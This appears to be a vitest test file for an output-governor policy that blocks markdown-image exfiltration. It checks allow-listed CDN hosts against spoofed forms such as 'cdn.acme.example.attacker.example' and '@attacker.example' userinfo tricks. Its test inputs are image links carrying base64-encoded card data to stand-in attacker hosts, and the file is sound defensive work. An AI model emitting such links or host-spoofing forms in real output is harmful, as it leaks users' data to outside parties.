import { expect, it } from 'vitest';
import { createGovernor } from '../index.ts';

const policy = (use: string, hosts: string): string => `
policy: images
version: 1
detectors: [{ use: ${use}, allow_hosts: ${hosts} }]
rules: [{ id: no-way-out, on: output, detect: exfiltration, then: block, reason: P_WAY_OUT }]
`;

async function outcome(hosts: string, host: string): Promise<string> {
  const governor = await createGovernor({ policy: { yaml: policy('exfiltration', hosts) } });
  const interaction = governor.interaction({ tenant: 'acme' });
  const content = `![ok](https://${host}/i.gif?d=Y2FyZCBlbmRzIDQyNDI)`;
  const decision = await governor.decide(interaction.event({ stage: 'output', content }));
  await governor.close();
  return decision.outcome;
}

it.each([
  ['cdn.acme.example', 'ALLOW'],
  ['CDN.acme.example', 'ALLOW'],
  ['cdn.acme.example:8443', 'ALLOW'],
  ['a.img.acme.example', 'ALLOW'],
  ['acme.example', 'BLOCK'],
  ['img.acme.example', 'BLOCK'],
  ['x.cdn.acme.example', 'BLOCK'],
  ['cdn.acme.example.attacker.example', 'BLOCK'],
  ['cdn.acme.example@attacker.example', 'BLOCK'],
  ['attacker.example\\@cdn.acme.example', 'BLOCK'],
])('an address at %s is %s', async (host, expected) => {
  expect(await outcome('[CDN.acme.example, "*.img.acme.example"]', host)).toBe(expected);
});

it('hosts that are none, or that nothing reads, do not load', async () => {
  const load = (use: string, hosts: string) => createGovernor({ policy: { yaml: policy(use, hosts) } });
  await expect(load('exfiltration', '["https://acme.example/"]')).rejects.toThrow('`https://acme.example/` is no host');
  await expect(load('pii.email', '[acme.example]')).rejects.toThrow('`allow_hosts` has no effect on `pii.email`');
});

it('other hosts are another behaviour', async () => {
  const version = async (hosts: string): Promise<string> => {
    const governor = await createGovernor({ policy: { yaml: policy('exfiltration', hosts) } });
    const [first] = governor.status().policies;
    await governor.close();
    return first!.behaviorVersion;
  };
  const one = await version('[a.example, b.example]');
  expect(await version('[b.example, a.example]')).toBe(one);
  expect(await version('[a.example]')).not.toBe(one);
});
